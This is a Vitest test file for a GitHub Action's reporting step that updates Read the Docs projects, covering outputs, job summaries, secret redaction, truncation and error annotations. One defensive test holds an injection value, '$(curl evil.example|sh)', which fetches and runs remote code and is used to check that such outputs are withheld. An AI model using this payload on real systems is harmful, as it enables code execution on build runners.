// The step's last part, in-process: `run()` as the runner calls it (inputs in INPUT_*, outputs and
// the job summary in the runner's files), and `reportStep` alone. Outputs are set on every path.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { reportStep, run } from '../../src/step.js';
import { actionsPort } from '../../src/runner/actions.js';
import { OUTPUT_NAMES } from '../../src/reporting/report.js';
import { parseOutputFile } from '../../harness/run-action.ts';
import { startStandin, type Standin } from '../../harness/rtd-standin.ts';
import { captureStdout } from './context.ts';

const TOKEN = 'rtd_report_step_token_0123456789';
const NEW_API_KEY = 'new-api-key-R4p0rt9x';

// The toolkit keeps the summary file's path once it has read it: one file for the whole test file.
const dir = mkdtempSync(join(tmpdir(), 'rtd-report-step-'));
const outputFile = join(dir, 'output');
const summaryFile = join(dir, 'summary');
const stdout = captureStdout();
let standin: Standin;

beforeEach(async () => {
  standin = await startStandin({ tokens: [TOKEN] });
  standin.addProject({ slug: 'demo', name: 'Demo Docs' });
  writeFileSync(outputFile, '');
  writeFileSync(summaryFile, '');
  for (const name of ['GITHUB_EVENT_PATH', 'GITHUB_EVENT_NAME', 'GITHUB_SHA', 'GITHUB_REPOSITORY', 'HTTPS_PROXY', 'HTTP_PROXY']) {
    vi.stubEnv(name, '');
  }
  vi.stubEnv('GITHUB_OUTPUT', outputFile);
  vi.stubEnv('GITHUB_STEP_SUMMARY', summaryFile);
  vi.stubEnv('GITHUB_WORKSPACE', dir);
});
afterEach(async () => {
  vi.unstubAllEnvs();
  process.exitCode = undefined;
  await standin.close();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** The runner's way of giving inputs: `INPUT_<NAME>`, upper case, hyphens kept. */
function giveInputs(inputs: Record<string, string>): void {
  for (const [name, value] of Object.entries(inputs)) vi.stubEnv(`INPUT_${name.toUpperCase()}`, value);
}

const outputs = () => parseOutputFile(readFileSync(outputFile, 'utf8'));
const summary = () => readFileSync(summaryFile, 'utf8');
const errors = () => stdout.annotations().filter((a) => a.level === 'error');

describe('run, in-process', () => {
  it('a project that fails half-way: every output from its result, the summary with its reason and sections, exit code 1', async () => {
    standin.addEnvVar('demo', { name: 'API_KEY', value: 'old-api-key' });
    standin.fault({ kind: 'status', status: 400, method: 'POST', path: '/environmentvariables/', after: 1, body: '["Refused."]' });
    giveInputs({
      token: TOKEN,
      'base-url': standin.url,
      'rate-limit': '600/1m',
      project: 'demo',
      operation: 'env',
      variables: `API_KEY=${NEW_API_KEY}\nNEW_ONE=one`,
    });

    await run();

    expect(process.exitCode).toBe(1);
    const set = outputs();
    expect(Object.keys(set).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(JSON.parse(set.variables!)).toEqual([{ name: 'API_KEY', public: false, action: 'replaced' }]);
    expect(JSON.parse(set.results!)).toEqual([
      expect.objectContaining({ project: 'demo', outcome: 'error', dryRun: false, variables: JSON.parse(set.variables!) }),
    ]);
    expect(set.success).toBe('false');
    const text = summary();
    expect(text).toMatch(
      /^## ⚠️ Read the Docs env: demo error\n\n\| Project \| State \|\n\| --- \| --- \|\n\| demo \| ⚠️ error \|\n\n### Variables partly changed: demo\n/,
    );
    expect(text).toContain('creating `NEW_ONE` failed');
    // The operation's section comes after the reason.
    expect(text.indexOf('### Environment variables: demo')).toBeGreaterThan(text.indexOf('### Variables partly changed'));
    expect(text).not.toContain(NEW_API_KEY);
    expect(errors().map((a) => a.title)).toEqual(['Variables partly changed: demo']);
  });

  it('an operation that throws: every output still set (`apply` counts 0 changes), one annotation, no summary', async () => {
    giveInputs({ token: TOKEN, 'base-url': standin.url, project: 'demo', operation: 'apply', config: 'no-such-file.yml' });

    await run();

    expect(process.exitCode).toBe(1);
    const set = outputs();
    expect(Object.keys(set).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(set).toMatchObject({ results: '[]', variables: '[]', plan: '[]', changes: '0', config: '', success: 'false', 'build-id': '' });
    expect(errors()).toEqual([
      expect.objectContaining({ title: 'Invalid input', message: expect.stringContaining('no-such-file.yml does not exist') }),
    ]);
    expect(summary()).toBe('');
    expect(standin.requests).toEqual([]);
  });

  it('an invalid input: the defaults as outputs, no request sent', async () => {
    giveInputs({ token: TOKEN, 'base-url': standin.url, project: 'Not A Slug', operation: 'apply' });

    await run();

    expect(process.exitCode).toBe(1);
    expect(outputs()).toMatchObject({ results: '[]', plan: '[]', changes: '', config: '' });
    expect(errors().map((a) => a.title)).toEqual(['Invalid input']);
    expect(standin.requests).toEqual([]);
  });
});

describe('reportStep', () => {
  it("sets the report's outputs over the defaults and writes the projects' sections, then the step's", async () => {
    await reportStep(
      {
        results: [
          { project: 'one', outcome: 'success', summarySections: ['**chart of one**'] },
          {
            project: 'two',
            outcome: 'failed',
            title: 'Build failed',
            subject: 'two',
            reason: 'exit 1',
            summarySections: ['**chart of two**'],
          },
        ],
        summary: ['**the step**'],
        outputs: { config: 'text' },
      },
      { operation: 'build', baseUrl: 'https://app.readthedocs.org' },
      (text) => text.replaceAll('exit 1', '***'),
      actionsPort(),
    );

    expect(process.exitCode).toBe(1);
    expect(outputs()).toMatchObject({ config: 'text', success: 'true', variables: '[]' });
    const text = summary();
    // The verdict first: the worst outcome's emoji and words, then every outcome counted.
    expect(text.startsWith('## ❌ Read the Docs build: 1 failed, 1 passed\n')).toBe(true);
    const order = ['### Build failed: two', '**chart of one**', '**chart of two**', '**the step**'].map((part) => text.indexOf(part));
    expect(order.every((at) => at >= 0)).toBe(true);
    expect(order).toEqual([...order].sort((a, b) => a - b));
    expect(text).toContain('two: ***');
    // The title names the project; the message does not repeat it (issue 35).
    expect(errors()).toEqual([expect.objectContaining({ title: 'Build failed: two', message: '***' })]);
  });

  it('checks every output: a version carrying a line break or `$(…)` is left empty, with a warning', async () => {
    await reportStep(
      { results: [{ project: 'one', outcome: 'success', version: '1.0\n$(curl evil.example|sh)' }], summary: [], outputs: {} },
      { operation: 'wait', baseUrl: 'https://app.readthedocs.org' },
      (text) => text,
      actionsPort(),
    );

    expect(outputs().version).toBe('');
    expect(JSON.parse(outputs().results!)).toEqual([expect.objectContaining({ project: 'one', version: null })]);
    expect(stdout.annotations()).toEqual([
      expect.objectContaining({ level: 'warning', title: 'Output withheld', message: expect.stringContaining('output `version`') }),
    ]);
    expect(process.exitCode).toBeUndefined();
  });

  it('an output past its bound is shortened to fit, the whole value saved in RUNNER_TEMP, with a notice; the step stays green', async () => {
    vi.stubEnv('RUNNER_TEMP', dir);
    vi.stubEnv('GITHUB_ACTION', 'export-step');
    const config = `projects:\n${'  - x\n'.repeat(120_000)}`;
    await reportStep(
      { results: [{ project: 'one', outcome: 'success' }], summary: [], outputs: { config, plan: '[{' } },
      { operation: 'export', baseUrl: 'https://app.readthedocs.org' },
      (text) => text,
      actionsPort(),
    );

    const set = outputs();
    expect(Object.keys(set).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(set).toMatchObject({ plan: '', success: 'true' });
    const file = join(dir, 'readthedocs-action', 'export-step', 'config.yml');
    expect(readFileSync(file, 'utf8')).toBe(config);
    expect(set.config!.length).toBeLessThanOrEqual(512 * 1024);
    expect(config.startsWith(set.config!.slice(0, set.config!.lastIndexOf('\n# … ')))).toBe(true);
    expect(set.config).toMatch(/\n# … [\d,]+ more characters left out: the whole text is in .*config\.yml\n$/);
    expect(errors()).toEqual([]);
    expect(stdout.annotations()).toContainEqual(
      expect.objectContaining({
        level: 'notice',
        title: 'Output shortened',
        message: expect.stringMatching(
          /^Output `config` would hold 720,010 characters, .*its last [\d,]+ characters left out; the whole value is in .*config\.yml$/,
        ),
      }),
    );
    expect(process.exitCode).toBeUndefined();
  });

  it('the summary stays under GitHub’s 1 MB, with a note of what was left out, whatever the text', async () => {
    const sections = Array.from({ length: 40 }, (_, index) => `**section ${index}** ${'s'.repeat(100_000)}`);
    await reportStep(
      {
        results: [
          { project: 'one', outcome: 'failed', title: 'Build failed', reason: '`a'.repeat(300_000), summarySections: sections },
          { project: 'two', outcome: 'success' },
        ],
        summary: ['**the step**'],
        outputs: {},
      },
      { operation: 'build', baseUrl: 'https://app.readthedocs.org' },
      (text) => text,
      actionsPort(),
    );

    const text = summary();
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(1000 * 1024);
    expect(text).toContain('| one |');
    expect(text).toContain('| two |');
    expect(text).toContain('### Build failed: one');
    expect(text).toContain('**the step**');
    expect(text).toMatch(/\n_\d+ parts? of this summary left out: a job summary holds at most 1 MB\._\n$/);
    // The annotation and the `results` output carry the reason's beginning and end, not all of it.
    const [failure] = errors();
    expect(failure!.title).toBe('Build failed: one');
    expect(failure!.message.length).toBeLessThanOrEqual(16 * 1024);
    expect(failure!.message).toMatch(/^`a`a[\s\S]*\n… 583,680 characters left out …\n[\s\S]*`a`a$/);
    expect(JSON.parse(outputs().results!)[0].reason).toBe(failure!.message);
    expect(process.exitCode).toBe(1);
  });

  it('a part of the report that throws costs none of the others: the outputs are set, the error says which part failed', async () => {
    // A redactor that fails on the annotation's title only: a fault where no one foresaw one.
    const redact = (text: string) => {
      if (text.startsWith('Boom title')) throw new Error('the redactor broke');
      return text;
    };
    await reportStep(
      { results: [{ project: 'one', outcome: 'failed', title: 'Boom title', subject: 'one', reason: 'exit 1' }], summary: [], outputs: {} },
      { operation: 'build', baseUrl: 'https://app.readthedocs.org' },
      redact,
      actionsPort(),
    );

    expect(Object.keys(outputs()).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(errors()).toEqual([
      { level: 'error', title: 'Report incomplete', message: 'The annotations could not be written: the redactor broke' },
    ]);
    expect(summary()).toContain('| one |');
    expect(process.exitCode).toBe(1);
  });

  it("the step's own failure leads the verdict: ❌ and its words, never ✅ above a red step", async () => {
    await reportStep(
      {
        results: [{ project: 'acme', outcome: 'success', notes: { problem: 2 } }],
        summary: [],
        outputs: {},
        failure: { title: 'Health issue failed', message: 'The health issue could not be kept: boom' },
      },
      { operation: 'health', baseUrl: 'https://app.readthedocs.org' },
      (text) => text,
      actionsPort(),
    );

    expect(process.exitCode).toBe(1);
    expect(summary().split('\n')[0]).toBe('## ❌ Read the Docs health: health issue failed; acme passed \\(2 problems found\\)');
  });

  it('a green report leaves the exit code alone and writes no summary without results', async () => {
    await reportStep({ results: [], summary: ['**unseen**'], outputs: {} }, undefined, (text) => text, actionsPort());

    expect(process.exitCode).toBeUndefined();
    expect(outputs()).toMatchObject({ results: '[]', success: 'false' });
    expect(summary()).toBe('');
  });
});
